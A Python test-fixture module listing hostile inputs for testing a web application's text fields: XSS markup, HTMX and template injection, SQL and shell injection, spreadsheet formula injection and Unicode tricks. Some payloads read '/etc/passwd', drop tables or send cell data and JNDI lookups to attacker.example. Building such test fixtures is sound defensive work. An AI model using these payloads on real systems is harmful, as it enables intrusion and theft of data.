"""Texts that try to become something else: markup, scripts, templates, formulas, orders of reading, crashes."""

from __future__ import annotations

# Wherever one of these turns up as markup, this word is in it: look for it in attributes and script elements.
CANARY = "harm()"

MARKUP = {
    "script": f"<script>{CANARY}</script>",
    "script-in-capitals": f"<ScRiPt>{CANARY}</sCrIpT>",
    "script-unclosed": f"<script>{CANARY}//",
    "script-split": f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    "picture": f"<img src=x onerror={CANARY}>",
    "picture-with-slashes": f"<img/src=x/onerror={CANARY}>",
    "svg": f"<svg onload={CANARY}>",
    "svg-animate": f'<svg><animate onbegin={CANARY} attributeName="x" dur="1s"/></svg>',
    "svg-foreign": f"<svg><foreignObject><body onload={CANARY}></foreignObject></svg>",
    "mathml": f"<math><maction actiontype='statusline#' xlink:href='javascript:{CANARY}'>x</maction></math>",
    "details": f"<details open ontoggle={CANARY}>",
    "focus": f"<input autofocus onfocus={CANARY}>",
    "frame": f"<iframe srcdoc='<script>{CANARY}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{CANARY}</script>'></object>",
    "style": f"<style>*{{background:url('javascript:{CANARY}')}}</style>",
    "base": "<base href='https://attacker.example/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{CANARY}'>",
    "form": "<form action='https://attacker.example/'><button>Log in again</button></form>",
    "dangling": "<img src='https://attacker.example/?",
    "closes-textarea": f"</textarea><script>{CANARY}</script>",
    "closes-title": f"</title><script>{CANARY}</script>",
    "closes-script": f"</script><script>{CANARY}</script>",
    "closes-comment": f"--><script>{CANARY}</script>",
    "closes-cdata": f"]]><script>{CANARY}</script>",
    "entity": f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    "entity-numeric": f"&#60;script&#62;{CANARY}&#60;/script&#62;",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={CANARY}>'>",
}

ATTRIBUTES = {
    "double-quote": f'" onmouseover={CANARY} x="',
    "single-quote": f"' onmouseover={CANARY} x='",
    "backtick": f"` onmouseover={CANARY} x=`",
    "no-quote": f" onmouseover={CANARY} ",
    "closes-tag": f'"><img src=x onerror={CANARY}>',
    "autofocus": f'" autofocus onfocus={CANARY} x="',
    "style": '" style="position:fixed;inset:0;z-index:9" x="',
    "slash": f'"/onmouseover={CANARY}/x="',
    "newline": f'"\nonmouseover={CANARY}\nx="',
    "form-feed": f'"\x0conmouseover={CANARY}\x0cx="',
}

HTMX = {
    "hx-on": f'" hx-on:click="{CANARY}" x="',
    "hx-on-load": f'<div hx-on::load="{CANARY}" hx-trigger="load">',
    "hx-get": '<div hx-get="/people/" hx-trigger="load" hx-target="body">',
    "hx-post": '<div hx-post="/review/decide/" hx-trigger="revealed" hx-vals=\'{"label": "none"}\'>',
    "hx-swap-oob": '<div id="main" hx-swap-oob="true">gone</div>',
    "data-hx": '<div data-hx-delete="/items/" data-hx-trigger="load">',
    "hx-ext": '<div hx-ext="attacker">',
    "hx-vals-js": f"<div hx-vals=\"js:{{x: {CANARY}}}\" hx-get='/' hx-trigger='load'>",
}

TEMPLATES = {
    "jinja-sum": "{{7*7}}",
    "jinja-config": "{{ config }}",
    "jinja-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-statement": "{% for x in range(9) %}49{% endfor %}",
    "jinja-comment": "{# gone #}",
    "django-debug": "{% debug %}",
    "django-include": '{% include "/etc/passwd" %}',
    "dollar": "${7*7}",
    "hash": "#{7*7}",
    "erb": "<%= 7*7 %>",
    "percent": "%(password)s %s %d %n",
    "braces": "{0.__class__.__init__.__globals__}",
    "typst": '#read("/etc/passwd")',
    "typst-eval": '#eval("7*7")',
    "log4j": "${jndi:ldap://attacker.example/x}",
}

QUERIES = {
    "sql-or": "' OR '1'='1",
    "sql-drop": "'; DROP TABLE judgements; --",
    "sql-union": '" UNION SELECT password FROM people_user --',
    "sql-like": "%_%",
    "sql-comment": "/* */ --",
    "sql-read": "read_csv('/etc/passwd')",
    "shell": "$(touch harm); `touch harm` | touch harm",
    "header": "name\r\nSet-Cookie: role=lead",
    "log-line": "x\n2026-01-01 00:00:00 [info] decided by=ada",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
}

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "space": " =1+1",
    "full-width-equals": "＝1+1",
    "full-width-plus": "＋1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "webservice": '=WEBSERVICE("https://attacker.example/"&A1)',
    "importxml": '=IMPORTXML("https://attacker.example/","//a")',
    "after-quote": "'=1+1",
    "after-comma": 'x",=1+1,"',
    "after-semicolon": "x;=1+1",
    "zero-width": "\u200b=1+1",
    "bom": "\ufeff=1+1",
}

REORDERED = {
    "right-to-left-override": "harmless\u202egnp.exe",
    "left-to-right-override": "\u202dabc\u202c",
    "embedding": "\u202bnever closed",
    "isolate": "\u2067never closed",
    "isolates-nested": "\u2066" * 130 + "deep",
    "closes-more-than-opened": "\u2069\u202c\u202cabc",
    "trojan-source": "decide(\u2066 'remove' \u2069\u2066 'keep' \u2069)",
    "arabic-letter-mark": "1\u061c2",
    "marks": "\u200eabc\u200f",
}

HIDDEN = {
    "zero-width-space": "ha\u200bte",
    "zero-width-joiner": "ha\u200dte",
    "zero-width-non-joiner": "ha\u200cte",
    "word-joiner": "ha\u2060te",
    "byte-order-mark": "ha\ufeffte",
    "soft-hyphen": "ha\u00adte",
    "hangul-filler": "ha\u3164te",
    "half-width-filler": "ha\uffa0te",
    "braille-blank": "ha\u2800te",
    "grapheme-joiner": "ha\u034fte",
    "invisible-times": "ha\u2062te",
    "tag-letters": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "keep this"),
    "secret-in-two-signs": "hello" + "\u200b\u200c\u200c\u200b" * 60,
}

STACKED = {
    "zalgo": "".join(letter + "\u0301\u0308\u0323\u0331" * 20 for letter in "zalgo"),
    "one-tall-letter": "a" + "\u0300" * 5_000,
    "thai": "\u0e01" + "\u0e49" * 400,
    "enclosing": "a" + "\u20dd" * 200,
    "variation-selectors": "a" + "\ufe0f" * 300,
    "variation-supplement": "a" + "\U000e0100\U000e0101" * 150,
}

LOOKALIKES = {
    "cyrillic": "\u0440\u0430\u0443\u0440\u0430l",
    "full-width": "ｈａｔｅ",
    "mathematical": "\U0001d425\U0001d428\U0001d42f\U0001d41e",
    "circled": "ⓗⓐⓣⓔ",
    "dotless": "admın",
    "sharp-s": "straße STRASSE",
    "dotted-capital": "İstanbul",
    "ligature": "ﬁle",
    "roman-number": "Ⅷ",
    "decomposed": "e\u0301 and \u00e9",
}

# What forms and JSON can carry. A surrogate alone is legal in JSON ("\ud800"), and breaks at the first encoding.
BROKEN = {
    "nul": "a\x00b",
    "only-nul": "\x00",
    "high-surrogate": "a\ud800b",
    "low-surrogate": "a\udfffb",
    "surrogates-swapped": "\udc00\ud800",
    "undecodable-byte": b"\xff".decode("utf-8", "surrogateescape"),
    "not-a-character": "a\uffff\ufffe\ufdd0b",
    "delete": "a\x7fb",
    "c1": "a\x85\x9b31mb",
    "bell": "a\x07b",
    "backspace": "keep\x08\x08\x08\x08drop",
    "line-separator": "a\u2028b\u2029c",
    "replacement": "\ufffd" * 5,
}

EMPTYISH = {
    "empty": "",
    "space": " ",
    "spaces": " \t \u00a0\u3000 ",
    "zero-width-only": "\u200b\u200b",
    "newlines": "\n\r\n\n",
    "null-word": "null",
    "none-word": "None",
    "nan-word": "NaN",
    "true-word": "true",
}

NUMBERS = {
    "minus-one": "-1",
    "not-a-number": "nan",
    "infinite": "inf",
    "exponent": "1e400",
    "long": "9" * 5_000,
    "hexadecimal": "0x10",
    "underscore": "1_000",
    "arabic-digits": "١٢٣",
    "full-width-digits": "１２３",
    "superscript": "²",
    "beyond-64-bits": str(2**64),
    "beyond-postgres-integer": str(2**31),
    "leading-plus": "+1",
    "comma": "1,5",
}

LONG = {
    "long-word": "w" * 100_000,
    "long-line": "long " * 40_000,
    "many-lines": "line\n" * 50_000,
    "empty-lines": "\n" * 50_000,
    "empty-lines-with-spaces": "top" + "\n  " * 20_000 + "bottom",
    "long-emoji": "\U0001f468\u200d" * 30_000,
    "only-overrides": "\u202e" * 50_000,
    "overrides-between": "a\u202e" * 50_000,
}

# All that may be sent where a person writes words, shortest first; LONG aside, so that a test may try each.
ALL = {
    f"{family}-{name}": value
    for family, collection in {
        "markup": MARKUP,
        "attribute": ATTRIBUTES,
        "htmx": HTMX,
        "template": TEMPLATES,
        "query": QUERIES,
        "formula": FORMULAS,
        "reordered": REORDERED,
        "hidden": HIDDEN,
        "stacked": STACKED,
        "lookalike": LOOKALIKES,
        "broken": BROKEN,
        "emptyish": EMPTYISH,
    }.items()
    for name, value in collection.items()
}
